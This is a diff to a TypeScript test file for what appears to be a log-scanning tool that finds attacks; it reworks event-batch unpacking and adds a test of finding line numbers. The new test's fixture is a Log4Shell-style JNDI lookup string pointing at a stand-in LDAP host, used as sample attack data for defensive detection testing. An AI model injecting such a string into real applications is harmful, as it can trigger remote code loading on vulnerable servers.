@@ -2,6 +2,7 @@ import { expect, test } from 'vitest'
 import { huntIn } from '../../../test/kit/hunting.ts'
 import type { AttackFinding } from '../../core/index.ts'
 import { type Readings, RecentlyRead } from '../../hunt/index.ts'
+import type { Beginning } from './batch.ts'
 import type { WorkEvent } from './hunt-event.ts'
 import { EventPacker, EventUnpacker } from './packed-events.ts'
 
@@ -18,7 +19,7 @@ function sent(batches: readonly (readonly WorkEvent[])[]): { events: readonly Wo
   const unpacker = new EventUnpacker()
   const packed = batches.map((events) => structuredClone(packer.pack(events)))
   return {
-    events: packed.flatMap((each) => unpacker.unpack(each)),
+    events: packed.map((each) => unpacker.unpack(each)).flatMap((batch) => batch.events()),
     whole: packed.reduce((sum, { whole }) => sum + whole.length, 0),
   }
 }
@@ -40,6 +41,24 @@ test('a spray arrives as it was told, and what its findings share is sent once',
   expect(events).toHaveLength(600)
   expect(arrived.events).toEqual(events)
   expect(arrived.whole).toBe(3)
+})
+
+test('a batch of a part has the lines of the whole, and is made when it is asked for', () => {
+  const payload = '${jndi:ldap://a.example/x}'
+  const events = told(line(1, payload).repeat(3))
+  const packer = new EventPacker()
+  const unpacker = new EventUnpacker()
+  const [batch, later] = [events, events].map((each) => unpacker.unpack(structuredClone(packer.pack(each))))
+
+  const lines = (beginning: Beginning | null) =>
+    later?.events(beginning).map((event) => {
+      if (event.is !== 'finding') return event
+      const [log] = event.finding.evidence
+      return [event.finding.at.line, log.kind === 'log' ? log.line : null]
+    })
+  expect(later?.length).toBe(3)
+  expect(lines({ shown: 'a.log', lines: 100 })).toEqual([1, 2, 3].map((number) => [100 + number, 100 + number]))
+  expect(batch?.events({ shown: 'a.log', lines: 0 })).toEqual(events)
 })
 
 test('gaps, notes and evidence keep their place among attacks', () => {
